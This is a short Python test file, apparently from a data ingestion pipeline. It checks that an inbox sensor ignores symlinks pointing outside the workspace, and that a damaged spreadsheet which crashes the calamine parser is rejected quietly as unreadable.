def test_the_sensor_does_not_follow_symlinks_either(workspace_dir, tmp_path):
    import dagster as dg

    from pipelines.defs.measurement.resources import WorkspaceResource
    from pipelines.defs.measurement.sensors import inbox_sensor

    (workspace_dir / "inbox" / "SKOLE" / "link.csv").symlink_to(_outside(tmp_path))
    context = dg.build_sensor_context(
        instance=dg.DagsterInstance.ephemeral(),
        resources={"workspace": WorkspaceResource(root=str(workspace_dir))},
    )
    assert not inbox_sensor(context).run_requests


def test_a_file_that_makes_the_spreadsheet_library_panic_is_unreadable_quietly(workspace_dir):
    """tests/reliability/data/calamine-panic.xls (frictionless table.xls, damaged; found by
    test_fuzz) makes calamine panic in Rust. As its own process, with RUST_BACKTRACE=1: the
    file gets `unreadable_file`, the screen shows no panic or backtrace, the next file is taken."""
    from tests.reliability.common import run_cli

    damaged = Path(__file__).with_name("data") / "calamine-panic.xls"
    (workspace_dir / "inbox" / "SKOLE" / "1-beskadiget.xls").write_bytes(damaged.read_bytes())
    write(workspace_dir / "inbox" / "SKOLE" / "2-god.csv", GOOD)
    result = run_cli("ingest", "--workspace", workspace_dir, env={"RUST_BACKTRACE": "1"})
    assert result.returncode == 1
    assert result.stderr == ""
    assert "1 accepted, 1 rejected" in result.stdout
    assert _codes(_receipt(workspace_dir, "SKOLE", "1-beskadiget.xls")) == ["unreadable_file"]
